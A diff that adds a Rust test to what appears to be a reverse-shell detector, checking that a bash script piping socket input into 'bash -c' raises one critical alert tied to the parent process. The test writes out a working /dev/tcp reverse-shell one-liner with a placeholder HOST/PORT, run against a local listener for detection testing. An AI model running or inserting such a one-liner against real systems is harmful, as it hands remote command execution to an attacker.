@@ -262,3 +262,25 @@ fn a_script_that_opens_an_interactive_shell() {
     assert_eq!(alerts.len(), 2, "high for the script, critical for the shell: {alerts:#?}");
     check(alerts, expected, peer.address());
 }
+
+#[test]
+fn bash_that_reads_through_a_pipe() {
+    let code = "exec 5<>/dev/tcp/HOST/PORT; cat <&5 | while read -r line; do \
+                bash -c \"$line\" >&5 2>&5; done";
+    let Some(bed) = Bed::new() else { return };
+    let sentinel = Sentinel::start(&bed, &[]);
+    let peer = Peer::listen("127.0.0.1");
+    let mut child = spawn(&mut script("bash", "-c", code)(&bed, peer.address()));
+    let mut shell = peer.shell();
+    // Each line is run by a shell of its own; its parent is the culprit.
+    let ran = [shell.pid(), shell.pid(), shell.pid()];
+    shell.exit_input();
+    child.wait().unwrap();
+    let alerts = sentinel.stop().alerts;
+    let critical: Vec<&Value> =
+        alerts.iter().filter(|alert| alert["severity"] == "critical").collect();
+    assert_eq!(critical.len(), 1, "{alerts:#?}");
+    assert!(!ran.contains(&u32::try_from(critical[0]["pid"].as_u64().unwrap()).unwrap()));
+    assert_eq!(critical[0]["ppid"], child.id());
+    assert_eq!(critical[0]["remote_port"], peer.address().port());
+}
